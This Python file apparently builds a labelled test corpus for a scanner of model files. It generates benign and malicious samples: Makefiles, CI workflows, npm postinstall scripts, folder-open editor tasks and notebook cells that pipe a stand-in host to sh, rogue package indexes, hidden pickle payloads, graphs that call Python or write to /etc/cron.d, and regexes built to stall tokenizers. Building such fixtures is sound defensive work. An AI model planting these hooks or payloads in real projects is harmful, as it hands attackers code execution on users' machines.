"""What lies around a model: settings of tools, steps that tools run, configurations of servers; and what archives hold beside members."""

import base64
import json
import struct

from . import hdf5
from .protobuf import message
from .registry import CLEAN, HOST, MALICIOUS, SUSPICIOUS
from .sources import notebook
from .torch import EVIL, WHAT
from .zipwriter import Member, zip_file

FETCH = f"curl http://{HOST}/x | sh"


def add_samples(corpus):
    settings(corpus)
    steps(corpus)
    servers(corpus)
    around(corpus)


def settings(corpus):
    def add(name, verdict, text, what, why):
        corpus.add(f"requirements/{name}", verdict, text, what, why)

    add("project/pyproject.toml", CLEAN, '[build-system]\nrequires = ["setuptools>=61", "wheel"]\n[project]\nname = "weighin"\ndependencies = ["torch>=2"]\nurl = "https://example.com/project"\n', "a project with packages of the index", "the ordinary file")
    add("project-evil/pyproject.toml", SUSPICIOUS, f'[build-system]\nrequires = ["setuptools", "weighin @ http://{HOST}/x.whl"]\n', "a project that is built with a package from an open address", "installing it runs the package")
    add("pipenv/Pipfile", CLEAN, '[[source]]\nurl = "https://pypi.org/simple"\nverify_ssl = true\nname = "pypi"\n[packages]\ntorch = "*"\n', "packages of the usual index", "the ordinary file")
    add("pipenv-evil/Pipfile", SUSPICIOUS, f'[[source]]\nurl = "http://{HOST}/simple"\nverify_ssl = false\nname = "x"\n', "an index at an open address", "whoever owns it owns the machine")
    add("pip/pip.conf", SUSPICIOUS, f"[global]\nindex-url = http://{HOST}/simple\ntrusted-host = {HOST}\n", "settings of pip with another index", "the same")
    add("wheel/METADATA", SUSPICIOUS, f"Metadata-Version: 2.1\nName: weighin\nRequires-Dist: torch\nRequires-Dist: other @ http://{HOST}/x.whl\n", "a built package that needs one from an open address", "installing it installs the other")
    add("wheel-honest/METADATA", CLEAN, "Metadata-Version: 2.1\nName: weighin\nRequires-Dist: torch>=2; extra == 'torch'\n\nSee https://example.com/.\n", "what an honest built package says of itself", "the ordinary file")
    add("setup/setup.cfg", SUSPICIOUS, f"[options]\nsetup_requires = weighin @ http://{HOST}/x\n", "a project that is set up with a package from an open address", "the same")
    add("setup-honest/setup.cfg", CLEAN, "[metadata]\nname = weighin\nurl = https://example.com/project\n[options]\npackages = find:\n", "an honest project", "the ordinary file")


def steps(corpus):
    def add(name, verdict, text, what, why):
        corpus.add(name, verdict, text, what, why)

    add("script/build/Makefile", MALICIOUS, f"all:\n\t{FETCH}\n", "a Makefile that runs what an open address gives", "make runs it")
    add("script/build-honest/Makefile", CLEAN, "all:\n\tpython train.py\n\ninstall:\n\tpip install -r requirements.txt\n", "an honest Makefile", "the ordinary file")
    add("config/workflow/test.yml", MALICIOUS, f"on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - run: |\n        pip install .\n        {FETCH}\n", "a workflow that runs what an open address gives", "the forge runs it")
    add("config/workflow-honest/test.yml", CLEAN, "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        pip install .\n        pytest\n", "an honest workflow", "the ordinary file")
    add("config/editor/tasks.json", MALICIOUS, json.dumps({"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": FETCH, "runOptions": {"runOn": "folderOpen"}}]}), "a task that the editor runs when the folder is opened", "opening the folder is enough")
    add("config/editor-honest/tasks.json", CLEAN, json.dumps({"version": "2.0.0", "tasks": [{"label": "test", "type": "shell", "command": "pytest"}]}), "an honest task", "the ordinary file")
    add("config/package/package.json", MALICIOUS, json.dumps({"name": "weighin", "version": "1.0.0", "scripts": {"postinstall": FETCH}}), "a package of Node that runs what an open address gives", "installing it runs the script")
    add("config/package-honest/package.json", CLEAN, json.dumps({"name": "weighin", "version": "1.0.0", "scripts": {"test": "jest", "build": "tsc -p ."}}), "an honest package of Node", "the ordinary file")
    add("config/project/MLproject", MALICIOUS, f'name: x\nentry_points:\n  main:\n    command: "{FETCH}"\n', "an MLflow project whose entry point runs what an open address gives", "mlflow run runs it")
    add("notebook/ipython-system.ipynb", MALICIOUS, notebook(f"get_ipython().system('{FETCH}')"), "a cell that runs a command line by IPython's own method", "the same as a line with !")
    add("notebook/perl.ipynb", MALICIOUS, notebook(f"%%perl\nsystem('{FETCH}')"), "a cell in Perl that pipes an open address to a shell", "every language starts programs")
    add("notebook/installs-open.ipynb", SUSPICIOUS, notebook(f"!pip install -q http://{HOST}/x.whl"), "a cell that installs a package from an open address", "installing runs it")
    add("script/install.sh", SUSPICIOUS, f"#!/bin/sh\npip install --extra-index-url http://{HOST}/simple weighin\n", "a script that installs from another index", "the same")
    add("script/pipeline/Jenkinsfile", MALICIOUS, f"pipeline {{\n  stages {{ stage('x') {{ steps {{ sh '{FETCH}' }} }} }}\n}}\n", "a pipeline that runs what an open address gives", "the server runs it")
    add("script/tests/tox.ini", MALICIOUS, f'[testenv]\ncommands = sh -c "{FETCH}"\n', "a test environment that runs what an open address gives", "testing runs it")
    add("script/tests-honest/tox.ini", CLEAN, "[testenv]\ndeps = pytest\ncommands = pytest\n", "an honest test environment", "the ordinary file")
    add("xml/script-text.pmml", MALICIOUS, '<?xml version="1.0"?><PMML version="4.4"><MiningBuildTask><Extension><![CDATA[<script>Runtime.getRuntime().exec("x")</script>]]></Extension></MiningBuildTask></PMML>', "an extension with code as its text", "an engine may evaluate it")
    add("notebook/other-languages.ipynb", CLEAN, notebook("%%javascript\nelement.text('done')", "%%latex\n$x$", "get_ipython().system('ls')"), "cells in other languages", "the ordinary file")


def servers(corpus):
    def add(name, verdict, text, what, why):
        corpus.add(f"textproto/{name}", verdict, text, what, why)

    add("honest.prototxt", CLEAN, 'name: "net"\n# type: "Python"\nlayer {\n  name: "relu"\n  type: "ReLU"\n}\n', "a network of one layer", "the ordinary file")
    add("python.prototxt", SUSPICIOUS, 'layer {\n  name: "x"\n  type: "Python"\n  python_param { module: "os" layer: "system" }\n}\n', "a layer in Python", "Caffe imports its module")
    graph = 'saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node { name: "f" op: "Const" attr { key: "value" value { tensor { string_val: "%s" } } } }\n    node { name: "r" op: "%s" input: "f" }\n  }\n}\n'
    add("graph/saved_model.pbtxt", CLEAN, graph % ("part", "SaveV2"), "a SavedModel in text with its saver", "TensorFlow loads either form")
    add("graph-evil/saved_model.pbtxt", MALICIOUS, graph % ("/tmp/weighin", "WriteFile"), "a SavedModel in text that writes /tmp/weighin", "the same")
    add("graph-python/saved_model.pbtxt", MALICIOUS, graph % ("x", "EagerPyFunc"), "a SavedModel in text that calls Python", "the same")
    prompt = 'TEMPLATE """{{ if .System }}<|system|>{{ .System }}{{ end }}{{ range $i, $m := .Messages }}<|{{ .Role }}|>{{ .Content }}{{ end }}{{ printf "%%5d" 3 }}"""\nPARAMETER temperature 0.7\nSYSTEM """\nFROM ../here on, be kind.\n"""\n'.replace("%%", "%")
    for case, verdict, head, what, why in [
        ("ollama", CLEAN, "# a model\nFROM ./model.gguf\nADAPTER adapter.gguf\n", "a Modelfile of files beside it", "the ordinary file"),
        ("ollama-registry", CLEAN, "FROM hf.co/weighin/model:Q4_K_M\n", "a Modelfile of a model by name", "the ordinary file"),
        ("ollama-blob", CLEAN, "FROM /usr/share/ollama/.ollama/models/blobs/sha256-" + "0" * 64 + "\n", "a Modelfile as ollama show prints it", "the ordinary file"),
        ("ollama-absolute", CLEAN, "FROM /data/models/model.gguf\n", "a Modelfile of an absolute path", "worth a note"),
        ("ollama-parent", SUSPICIOUS, "from ../../other/model.gguf\n", "a Modelfile of a file two folders up", "what is taken was not reviewed"),
        ("ollama-address", SUSPICIOUS, f'FROM llama3\nADAPTER "http://{HOST}/adapter.gguf"\n', "a Modelfile with an adapter by address", "the same"),
        ("ollama-circle", SUSPICIOUS, 'FROM llama3\nTEMPLATE """{{ define "a" }}{{ template "b" . }}{{ end }}{{ define "b" }}{{ if .X }}{{ template "a" . }}{{ end }}{{ end }}{{ template "a" . }}"""\n', "a template that calls itself", "rendering it takes all memory"),
        ("ollama-width", SUSPICIOUS, 'FROM llama3\nTEMPLATE "{{ printf `%999999999d` 1 }}"\n', "a number printed in a width of a billion", "the same"),
    ]:
        corpus.add(f"config/{case}/Modelfile", verdict, head + (prompt if "TEMPLATE" not in head else ""), what, why)
    def tokenizer(*patterns):
        splits = [{"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False} for pattern in patterns]
        return json.dumps({"version": "1.0", "pre_tokenizer": {"type": "Sequence", "pretokenizers": splits}, "model": {"type": "BPE", "vocab": {"(a+)+$": 0}, "merges": []}})

    gpt2 = r"'s|'t|'re|'ve|'m|'ll|'d| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+"
    llama = r"(?i:'s|'t|'re|'ve|'m|'ll|'d)|[^\r\n\p{L}\p{N}]?\p{L}+|\p{N}{1,3}| ?[^\s\p{L}\p{N}]+[\r\n]*|\s*[\r\n]+|\s+(?!\S)|\s+"
    corpus.add("text/tokenizer-patterns/tokenizer.json", CLEAN, tokenizer(gpt2, llama, r"\p{N}{1,3}(?=(?:\p{N}{3})*(?:\P{N}|$))", r"(?:[A-Z][a-z]+)+$"), "a tokenizer with the expressions of published models", "the ordinary file")
    corpus.add("text/tokenizer-nested/tokenizer.json", SUSPICIOUS, tokenizer(gpt2, r"(\s+|\w+)*\z"), "a tokenizer with a repetition in a repetition", "one line of text stalls it")
    corpus.add("text/tokenizer-repeats/tokenizer.json", SUSPICIOUS, tokenizer(r"((?:\p{L}{1,999}){1,999}){1,999}"), "a tokenizer with counts of counts", "the expression takes gigabytes")
    library = 'library {\n  function {\n    signature { name: "f" }\n    node_def { name: "p" op: %s }\n  }\n}\n'
    add("graph.pb", MALICIOUS, library % '"PyFunc"', "a GraphDef in text, named as the binary one, whose function calls Python", "text_format reads it under any name")
    add("graph.meta", MALICIOUS, "graph_def {\n" + library % '"Py" # one name\n "F\\165nc"' + "}\n", "a MetaGraphDef in text with an operator's name in two strings and an escape", "import_meta_graph reads either form")
    add("graph-custom.pbtxt", SUSPICIOUS, 'node { name: "x" op: "Placeholder" }\nnode { name: "z" op: "WeighinRun" input: "x" attr { key: "library" value { s: "./weighin.so" } } }\n', "a graph in text with an operator that TensorFlow does not have, and a library", "needs a native library")
    add("graph-honest.pb", CLEAN, library % '"AddV2"', "a GraphDef in text whose function adds", "the ordinary file")
    environment = 'name: "m"\nbackend: "python"\nparameters: {\n  key: "EXECUTION_ENV_PATH",\n  value: { string_value: "%s" }\n}\n'
    add("config.pbtxt", CLEAN, environment % "$$TRITON_MODEL_DIRECTORY/env.tar.gz", "a Triton model with an environment in its folder", "the ordinary file")
    add("elsewhere/config.pbtxt", MALICIOUS, environment % "/tmp/env.tar.gz", "a Triton model with an environment in /tmp", "the server unpacks and runs it")

    def program(op, path):
        attribute = message((1, "file_path"), (2, 2), (5, path))
        block = message((1, 0), (2, -1), (4, message((1, message((1, "X"), (2, "x"))), (3, op), (4, attribute))))
        return message((1, block), (4, message((1, 2005000))))

    corpus.add("paddle/save-outside.pdmodel", MALICIOUS, program("save_combine", "/etc/cron.d/weighin"), "a program that saves to /etc/cron.d", "running it writes the file")
    corpus.add("paddle/load-outside.pdmodel", MALICIOUS, program("load", "../../../weighin"), "a program that loads a file three folders up", "running it reads the file")
    corpus.add("paddle/save-inside.pdmodel", CLEAN, program("save", "weights/w"), "a program that saves beside itself", "programs of training do")


def around(corpus):
    text = b"notes about the model\n"
    corpus.add("zip/pickle-in-comment.zip", MALICIOUS, zip_file([Member("notes.txt", text)], comment=EVIL + b"x"), f"a pickle in the comment of an archive: {WHAT}", "bytes that belong to no member")
    field = struct.pack("<HH", 0x9999, len(EVIL)) + EVIL
    corpus.add("zip/pickle-in-extra.zip", MALICIOUS, zip_file([Member("notes.txt", text, local={"extra": field})]), f"a pickle in an extra field: {WHAT}", "the same")
    corpus.add("hdf5/attribute-encoded.h5", MALICIOUS, hdf5.plain(hdf5.attribute("note", base64.b64encode(EVIL * 3).decode())), f"an attribute with a pickle in base64: {WHAT}", "something decodes and loads it")
    network = '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="w" type="Const" version="opset1"><data offset="18446744073709551600" size="64" shape="1"/></layer></layers></net>'
    layer = '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="%s" version="%s"/></layers></net>'
    corpus.add("openvino/extension.xml", SUSPICIOUS, layer % ("WeighinRun", "extension"), "a layer of an extension", "the application must load a native library")
    corpus.add("openvino/own-set.xml", SUSPICIOUS, layer % ("Relu", "weighin_opset1"), "a layer of a set of its own", "the same")
    corpus.add("openvino/tokenizer.xml", CLEAN, layer % ("BPETokenizer", "extension"), "a layer of OpenVINO Tokenizers", "published beside many models")
    corpus.add("openvino/kernels.xml", SUSPICIOUS, '<CustomLayer name="ReLU" type="SimpleGPU" version="1"><Kernel entry="relu"><Source filename="relu.cl"/></Kernel></CustomLayer>', "a configuration of custom layers", "a plug-in compiles the kernel")
    corpus.add("openvino/overflow.xml", SUSPICIOUS, network, "a constant whose end is beyond 64 bits", "a runtime that adds the two reads elsewhere")
